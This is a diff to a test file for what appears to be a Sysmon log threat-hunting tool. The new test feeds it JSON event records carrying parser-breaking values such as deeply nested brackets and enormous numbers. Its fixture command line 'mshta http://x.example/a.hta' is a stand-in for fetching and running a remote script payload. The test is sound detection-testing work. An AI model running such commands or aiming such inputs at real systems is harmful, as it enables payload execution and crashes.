@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import tracemalloc
 from collections.abc import Callable
 from datetime import UTC, datetime
@@ -132,3 +133,23 @@ def test_memory_grows_only_with_what_is_kept(scenario: Scenario, monkeypatch: py
     large, many = peak(scenario("lumma-clickfix", noise=4_000, file="large.evtx"), monkeypatch)
     assert many > 2 * few
     assert large - small < (many - few) * BYTES_A_FACT + 500_000
+
+
+def test_records_made_to_break_what_reads_them_stop_nothing(tmp_path: Path) -> None:
+    """Lists in lists, which recursion would end and whose text would double, and numbers that cannot be written out."""
+    system = {"Provider": {"#attributes": {"Name": "P"}}, "EventID": 1, "EventRecordID": 1, "Computer": "PC",
+              "Channel": "Microsoft-Windows-Sysmon/Operational",
+              "TimeCreated": {"#attributes": {"SystemTime": "2026-03-02T12:00:00Z"}}}
+    data = {"Image": "C:\\Windows\\System32\\mshta.exe", "OriginalFileName": "MSHTA.EXE", "ProcessId": "7",
+            "CommandLine": "mshta http://x.example/a.hta", "ParentImage": "C:\\Windows\\explorer.exe"}
+    plain = json.dumps({"Event": {"System": system, "EventData": data | {"Odd": "@"}}})
+    odd = ["[" * 900 + '"x"' + "]" * 900, '{"#text":[' * 400 + "]}" * 400, "9" * 5_000, f'"0x{"f" * 5_000}"', "1e999"]
+    lines = [plain.replace('"@"', value) for value in odd]
+    lines += [plain.replace('"7"', value).replace('"ProcessId"', f'"{name}"')
+              for name in ("ProcessId", "LogonId", "ParentProcessId", "ProcessGuid") for value in odd[2:]]
+    log = tmp_path / "odd.jsonl"
+    log.write_text("\n".join(lines) + "\n")
+    result = hunt(options(log))
+    assert not result.problems
+    assert result.summary.records_read == len(lines)
+    assert sum("mshta" in alert.title.lower() for alert in result.alerts) >= len(lines)
